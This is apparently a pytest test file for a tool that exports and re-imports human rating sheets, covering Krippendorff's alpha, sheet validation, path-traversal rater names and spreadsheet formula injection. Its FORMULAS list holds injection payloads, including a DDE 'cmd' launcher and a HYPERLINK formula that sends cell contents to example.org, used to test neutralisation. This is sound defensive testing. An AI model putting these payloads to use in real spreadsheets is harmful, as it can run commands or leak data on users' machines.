import base64
import csv
import json
import re
import shutil
import subprocess
from html.parser import HTMLParser
from urllib.parse import unquote

import numpy as np
import pytest
from PIL import Image

from heie_hf.metrics.human import Form, export_sheets, import_ratings, krippendorff_alpha

NAN = np.nan
# Krippendorff, Computing Krippendorff's Alpha-Reliability (2011), example C: 4 observers, 12 units.
PUBLISHED = np.array(
    [
        [1, 2, 3, 3, 2, 1, 4, 1, 2, NAN, NAN, NAN],
        [1, 2, 3, 3, 2, 2, 4, 1, 2, 5, NAN, 3],
        [NAN, 3, 3, 3, 2, 3, 4, 2, 2, 5, 1, NAN],
        [1, 2, 3, 3, 2, 4, 4, 1, 2, 5, 1, NAN],
    ]
)


@pytest.mark.parametrize("level, alpha", [("nominal", 0.743), ("ordinal", 0.815), ("interval", 0.849)])
def test_alpha_of_the_published_example(level, alpha):
    assert krippendorff_alpha(PUBLISHED, level) == pytest.approx(alpha, abs=0.0005)


def test_alpha_at_its_ends():
    assert krippendorff_alpha(np.array([[1, 2, 5], [1, 2, 5]])) == 1
    assert krippendorff_alpha(np.array([[1.0, 5.0], [5.0, 1.0]])) < 0
    rng = np.random.default_rng(0)
    assert krippendorff_alpha(rng.integers(1, 6, (3, 3000)).astype(float)) == pytest.approx(0, abs=0.03)
    assert np.isnan(krippendorff_alpha(np.array([[3.0, 3.0], [3.0, 3.0]])))  # no variation: undefined
    assert np.isnan(krippendorff_alpha(np.array([[1.0, NAN], [NAN, 2.0]])))  # nothing rated twice


@pytest.fixture
def rows():
    return [
        {"id": f"scene/{i}", "text": f'Hand {i} has "six"\nfingers, <b>all</b> bent & long.', "image": picture}
        for i, picture in enumerate(Image.new("RGB", (20, 10), (40 * i, 0, 0)) for i in range(6))
    ]


def fill_in(path, ratings):
    with path.open(newline="", encoding="utf-8") as file:
        sheet = list(csv.DictReader(file))
    for row in sheet:
        row["rating"] = ratings.get(row["id"], "")
    with path.open("w", newline="", encoding="utf-8-sig") as file:  # as a spreadsheet program saves it
        writer = csv.DictWriter(file, sheet[0])
        writer.writeheader()
        writer.writerows(sheet)


def test_sheets_go_out_and_ratings_come_back(tmp_path, rows):
    export_sheets(rows, tmp_path, ["ada", "bob"])
    fill_in(tmp_path / "ratings_ada.csv", {"scene/0": "1", "scene/1": "4", "scene/2": "5"})
    fill_in(tmp_path / "ratings_bob.csv", {"scene/0": "2", "scene/1": "4", "scene/5": " 3 "})
    ratings = import_ratings(sorted(tmp_path.glob("ratings_*.csv")))
    assert ratings.raters == ["ada", "bob"]
    found = {item: column.tolist() for item, column in zip(ratings.ids, ratings.values.T, strict=True)}
    assert found == {
        "scene/0": [1, 2],
        "scene/1": [4, 4],
        "scene/2": [5, pytest.approx(NAN, nan_ok=True)],
        "scene/5": [pytest.approx(NAN, nan_ok=True), 3],
    }
    assert ratings.mean == (1.5 + 4 + 5 + 3) / 4
    assert ratings.alpha == krippendorff_alpha(ratings.values)


class Page(HTMLParser):
    def __init__(self, text):
        super().__init__()
        self.items, self.pictures, self.choices, self.texts, self.tags = [], [], [], [], []
        self.feed(text)

    def handle_starttag(self, tag, attributes):
        attributes = dict(attributes)
        self.tags.append(tag)
        if tag == "article":
            self.items.append(attributes["data-id"])
            self.texts.append("")
        elif tag == "img":
            self.pictures.append(attributes["src"])
        elif tag == "input":
            self.choices.append((attributes["name"], attributes["value"]))

    def handle_data(self, data):
        if self.texts:
            self.texts[-1] += data


def test_page_shows_every_item_with_its_picture(tmp_path, rows):
    rows[0]["overlay"] = Image.new("RGB", (20, 10), "red")
    export_sheets(rows, tmp_path, ["ada"])
    page = Page((tmp_path / "ratings_ada.html").read_text(encoding="utf-8"))
    assert sorted(page.items) == [row["id"] for row in rows]
    assert len(page.pictures) == 7
    colours = set()
    for path in page.pictures:
        with Image.open(tmp_path / path) as picture:
            colours.add(picture.getpixel((0, 0)))
    assert len(colours) == 7
    assert len(set(page.choices)) == 6 * 5
    assert "b" not in page.tags  # the text is shown, not interpreted
    assert "<b>all</b> bent & long." in page.texts[0]


def test_page_and_table_of_one_rater_have_the_same_order_which_is_their_own(tmp_path, rows):
    export_sheets(rows, tmp_path, ["ada", "bob"])
    orders = {}
    for rater in ("ada", "bob"):
        with (tmp_path / f"ratings_{rater}.csv").open(newline="", encoding="utf-8") as file:
            orders[rater] = [row["id"] for row in csv.DictReader(file)]
        assert Page((tmp_path / f"ratings_{rater}.html").read_text(encoding="utf-8")).items == orders[rater]
    assert orders["ada"] != orders["bob"]


@pytest.mark.parametrize("value", ["6", "0", "3.5", "good", "-1", "9" * 5000])
def test_a_rating_off_the_scale_is_refused_by_name(tmp_path, rows, value):
    export_sheets(rows, tmp_path, ["ada"])
    fill_in(tmp_path / "ratings_ada.csv", {"scene/2": value})
    with (tmp_path / "ratings_ada.csv").open(newline="", encoding="utf-8-sig") as file:
        row = [row[1] for row in csv.reader(file)].index("scene/2") + 1
    reason = f"ratings_ada.csv, row {row}: the rating of 'scene/2' is '{value[:30]}.*write 1, 2, 3, 4 or 5"
    with pytest.raises(ValueError, match=reason):
        import_ratings([tmp_path / "ratings_ada.csv"])


def test_a_form_of_ones_own(tmp_path, rows):
    form = Form("Is it right?", {"right": 1, "wrong": 0, "unsure": NAN}, "nominal")
    rows[0]["background"] = "It was <written> first."
    export_sheets(rows, tmp_path, ["ada", "bob"], form)
    text = (tmp_path / "ratings_ada.html").read_text(encoding="utf-8")
    assert [value for _, value in Page(text).choices] == ["right", "wrong", "unsure"] * 6
    assert "Is it right?" in text and text.count("It was &lt;written&gt; first.") == 1
    fill_in(tmp_path / "ratings_ada.csv", {"scene/0": "right", "scene/1": "unsure", "scene/2": "wrong"})
    fill_in(tmp_path / "ratings_bob.csv", {"scene/0": "right", "scene/1": "wrong", "scene/2": "wrong"})
    sheet = (tmp_path / "ratings_bob.csv").read_text(encoding="utf-8-sig")
    (tmp_path / "ratings_bob.csv").write_text(sheet.replace(",wrong,", ",wrong,'=no", 1), encoding="utf-8")
    ratings = import_ratings(sorted(tmp_path.glob("ratings_*.csv")), form)
    columns = dict(zip(ratings.ids, ratings.values.T.tolist(), strict=True))
    assert columns["scene/0"] == [1, 1] and columns["scene/2"] == [0, 0]
    assert np.isnan(columns["scene/1"][0]) and columns["scene/1"][1] == 0
    assert ratings.alpha == 1 and list(ratings.comments.values()) == ["=no"]
    with pytest.raises(ValueError, match="; write 1, 2, 3, 4 or 5"):
        import_ratings([tmp_path / "ratings_ada.csv"])


OTHER_SHEETS = {
    "name,mark\na,1\n": r": has no column 'id' but \['name', 'mark'\]; save the sheet as CSV",
    "id,mark\na,1\n": r": has no column 'rating' but",
    "item;id;text;rating;comment\n1;a;x;3;\n": r": has no column 'id' but .*with commas",
    "": r": has no column 'id' but \[\]",
    "id,rating\na,1\n\na,2\n": ", row 4: item 'a' occurs twice; keep one",
    "id,rating\na,1\n,2\n": ", row 3: a rating without an id; copy the id",
    b"id,rating\n\xe4,1\n": ": is no CSV in UTF-8",
    "id,rating\n1,2\n".encode("utf-16"): ": is no CSV in UTF-8",
    "id,rating\n" + 200_000 * "x": ": is no CSV in UTF-8",
}


@pytest.mark.parametrize("content, reason", OTHER_SHEETS.items(), ids=range(len(OTHER_SHEETS)))
def test_a_sheet_that_cannot_be_read_is_named_with_the_row_and_what_to_do(tmp_path, content, reason):
    other = tmp_path / "other.csv"
    other.write_bytes(content if isinstance(content, bytes) else content.encode())
    with pytest.raises(ValueError, match=f"^{other}{reason}"):
        import_ratings([other])


def test_rows_that_are_short_or_empty_do_no_harm(tmp_path):
    sheet = tmp_path / "ratings_ada.csv"
    sheet.write_text("item,id,text,rating,comment\n1,a,x,2\n2,b\n,,,,\n\n3,c,y,4,fine,and,more\n")
    ratings = import_ratings([sheet])
    assert (ratings.ids, ratings.values.tolist()) == (["a", "c"], [[2, 4]])


def test_two_sheets_of_one_rater_are_refused(tmp_path, rows):
    for folder in ("a", "b"):
        export_sheets(rows, tmp_path / folder, ["ada"])
    with pytest.raises(ValueError, match="b/ratings_ada.csv: there is another sheet of 'ada'"):
        import_ratings([tmp_path / folder / "ratings_ada.csv" for folder in ("a", "b")])


@pytest.mark.parametrize(
    "rater", ["../ada", ".", "..", ".ada", "ada.", "-ada", "a/b", "a\\b", "a b", "", "ada\n", "ä" * 101]
)
def test_a_name_that_makes_no_good_file_name_is_refused(tmp_path, rows, rater):
    with pytest.raises(ValueError, match="cannot$"):
        export_sheets(rows, tmp_path, ["ada", rater])
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("rater", ["ada", "a.b-c_d", "Jürgen", "7", "ä" * 100])
def test_good_names_of_raters(tmp_path, rows, rater):
    export_sheets(rows, tmp_path, [rater])
    assert import_ratings([tmp_path / f"ratings_{rater}.csv"]).raters == [rater]


def test_double_items_and_raters_are_refused(tmp_path, rows):
    with pytest.raises(ValueError, match="unique"):
        export_sheets([rows[0], rows[0]], tmp_path, ["ada"])
    with pytest.raises(ValueError, match="two raters have the name 'Ada'"):
        export_sheets(rows, tmp_path, ["ada", "Ada"])


# ---------------------------------------------------------------- formulas

FORMULAS = [
    '=HYPERLINK("http://example.org?" & A1, "click")',
    "+1+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1",
    "'=1",
    "''=1",
]
HARMLESS = ["a", "1=1", "'tis", "''", "", " =1 in the middle"]


@pytest.mark.parametrize("cell", FORMULAS + HARMLESS)
def test_no_cell_is_a_formula_and_ids_come_back_as_they_were(tmp_path, cell):
    rows = [{"id": f"{cell}{name}", "text": f"{cell}{name}", "image": Image.new("RGB", (4, 4))} for name in "ab"]
    export_sheets(rows, tmp_path, ["ada"])
    sheet = tmp_path / "ratings_ada.csv"
    with sheet.open(newline="", encoding="utf-8") as file:
        written = list(csv.DictReader(file))
    for row in written:
        for column in ("id", "text"):
            assert not re.match("[=+@\t\r\n＝＋－＠-]", row[column])
            assert row[column].removeprefix("'" if cell in FORMULAS else "") in (f"{cell}a", f"{cell}b")
    fill_in(sheet, {row["id"]: "3" for row in written})
    assert import_ratings([sheet]).ids == [f"{cell}a", f"{cell}b"]


@pytest.mark.skipif(shutil.which("node") is None, reason="needs node, for the page's script")
def test_the_page_saves_cells_as_the_table_has_them(tmp_path, rows):
    """The page's own function, run on the cells."""
    export_sheets(rows, tmp_path, ["ada"])
    [line] = re.findall("  const noFormula = .*", (tmp_path / "ratings_ada.html").read_text(encoding="utf-8"))
    script = f"{line}\nconsole.log(JSON.stringify({json.dumps(FORMULAS + HARMLESS)}.map(noFormula)))"
    result = subprocess.run(["node", "-e", script], capture_output=True, text=True, check=True)
    assert json.loads(result.stdout) == ["'" + cell for cell in FORMULAS] + HARMLESS


CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
CLICK = """<script>
URL.createObjectURL = blob => {
  blob.text().then(text => { document.body.textContent = "SAVED" + btoa(encodeURIComponent(text)) + "END"; });
  return "#";
};
const first = document.querySelector("article");
first.querySelector("input[value=wrong]").click();
first.querySelector("textarea").value = '=six, "or"\\nseven';
document.querySelector("button").click();
</script></body>"""


@pytest.mark.skipif(CHROMIUM is None, reason="needs Chromium")
def test_what_the_button_of_the_page_saves_reads_back(tmp_path, rows):
    """In a real browser: an answer and a comment on the first item, then the button."""
    form = Form("Is it right?", {"right": 1, "wrong": 0}, "nominal")
    export_sheets(rows, tmp_path, ["ada"], form)
    path = tmp_path / "ratings_ada.html"
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace("</body>", CLICK), encoding="utf-8")
    command = [CHROMIUM, "--headless=new", "--no-sandbox", "--disable-gpu", f"--user-data-dir={tmp_path / 'profile'}"]
    command += ["--virtual-time-budget=5000", "--dump-dom", path.as_uri()]
    page = subprocess.run(command, capture_output=True, text=True, check=True).stdout
    [saved] = re.findall("SAVED(.*)END", page)
    sheet = tmp_path / "ratings_ada.csv"
    sheet.write_bytes(unquote(base64.b64decode(saved).decode()).encode())
    ratings = import_ratings([sheet], form)
    first = Page(text).items[0]
    assert (ratings.ids, ratings.values.tolist()) == ([first], [[0]])
    assert ratings.comments == {("ada", first): '=six, "or"\nseven'}
